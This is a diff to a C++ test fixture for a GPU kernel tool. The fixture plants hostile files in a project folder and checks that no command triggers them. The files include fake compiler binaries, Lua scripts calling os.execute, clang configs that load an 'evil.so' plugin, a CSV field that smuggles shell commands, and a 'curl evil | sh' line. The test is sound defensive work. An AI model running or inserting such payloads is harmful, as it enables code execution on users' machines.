@@ -33,6 +33,22 @@ class PlantedFolder : public testing::Test {
     folder_.write("project/gaps.lua", "os.execute('touch MARK')\n");
     folder_.write("project/.rpl/proposals/p1/candidate.hip", "curl evil | sh\n");
     folder_.write("project/.rpl/proposals/p1/before-approval.hip", "curl evil | sh\n");
+    // Programs that a search in the current folder would find, and what compilers and this program read beside them.
+    for (const char* name : {"clang", "clang-19", "clang++", "hipcc", "ld.lld", "llvm-link", "as",
+                             "rocprofv3", "sinfo", "sbatch", "less", "sh", "rocminfo"}) {
+      const std::string program =
+          folder_.write(fmt::format("project/{}", name), "#!/bin/sh\ntouch MARK\n");
+      fs::permissions(program, fs::perms::owner_all);
+    }
+    for (const char* name : {"triage.lua", "scripts/triage.lua", ".rpl/scripts/triage.lua"})
+      folder_.write(fmt::format("project/{}", name), "os.execute('touch MARK')\n");
+    for (const char* name : {"clang.cfg", ".clang.cfg", "x86_64-pc-linux-gnu-clang.cfg"})
+      folder_.write(fmt::format("project/{}", name), "-fplugin=./evil.so\n");
+    fs::create_symlink(folder_ / "victim/x.db", folder_ / "project/.rocpd_profile");
+    folder_.write("project/k_kernel_trace.csv",
+                  "Kernel_Name,Start_Timestamp,End_Timestamp\n"
+                  "\"`touch MARK`$(touch MARK);touch MARK\",1000,2000\n");
+    folder_.write("project/-o", "touch MARK\n");
     plant();
   }
 
@@ -115,6 +131,18 @@ TEST_F(PlantedFolder, NothingSprings) {
                                              {"lineage"},
                                              {"session", "info"},
                                              {"session", "log"},
+                                             {"build", "k.hip", "--device-only", "-o", "k.co"},
+                                             {"regress", "k.hip", "--flags-a=-O1", "--flags-b=-O2"},
+                                             {"guard", "check", "k.hip", "--kernel", "k"},
+                                             {"doctor"},
+                                             {"target", "slurm"},
+                                             {"open", "."},
+                                             {"open", "k_kernel_trace.csv"},
+                                             {"info", "kernels", "k_kernel_trace.csv"},
+                                             {"report", "md", "k_kernel_trace.csv"},
+                                             {"help", "scripts"},
+                                             {"-batch", "-x", "triage.lua"},
+                                             {"complete", "open "},
                                              {"tune", "status"}}) {
     rpl(words);
     expect_nothing_sprang(fmt::format("{}", fmt::join(words, " ")));
